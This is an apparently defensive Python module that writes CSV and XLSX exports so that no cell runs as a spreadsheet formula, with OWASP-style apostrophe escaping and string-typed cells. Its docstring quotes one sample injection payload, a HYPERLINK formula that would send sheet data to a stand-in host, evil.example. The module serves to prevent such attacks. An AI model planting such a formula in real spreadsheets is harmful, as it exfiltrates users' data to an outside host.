"""The one way the app writes CSV and XLSX files, so that no cell runs as a formula.

A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` as a formula (a partner named
`=HYPERLINK("http://evil.example/?x="&A1,"Lisboa")` would send the sheet's data away when
clicked), and tab or carriage return can hide such a start. Following OWASP's CSV injection
guidance, such a text is written with a leading `'`, which spreadsheets show as text. In XLSX
every text is written as a string cell (openpyxl would otherwise store a text starting with `=`
as a formula, and `#N/A` as an error); only numbers the app computed (int and float values,
never text that looks like a number) are written as numbers.
"""
import csv
import io

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_computed_number(value):
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def neutral_text(value):
    """The text of a cell, with a leading `'` when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value):
    return value if is_computed_number(value) else neutral_text(value)


def csv_bytes(rows, delimiter=","):
    """UTF-8 with a byte-order mark (so Excel reads the accents)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow([_cell(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(rows, sheet_title, bold_row=lambda row: False, column_widths=None, extra_sheets=()):
    """One sheet; `bold_row(row)` marks headings, `column_widths` maps a column letter to a width.
    `extra_sheets`: (title, rows) of further sheets, their first row in bold."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title[:31]
    _fill(sheet, rows, bold_row)
    for letter, width in (column_widths or {}).items():
        sheet.column_dimensions[letter].width = width
    for title, extra_rows in extra_sheets:
        first = extra_rows[0] if extra_rows else None
        _fill(workbook.create_sheet(title[:31]), extra_rows, lambda row, first=first: row is first)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _fill(sheet, rows, bold_row):
    bold = Font(bold=True)
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            if value is None:
                continue
            cell = sheet.cell(row=row_number, column=column)
            if is_computed_number(value):
                cell.value = value
            else:
                cell.value = neutral_text(value)
                cell.data_type = TYPE_STRING
            if bold_row(row):
                cell.font = bold
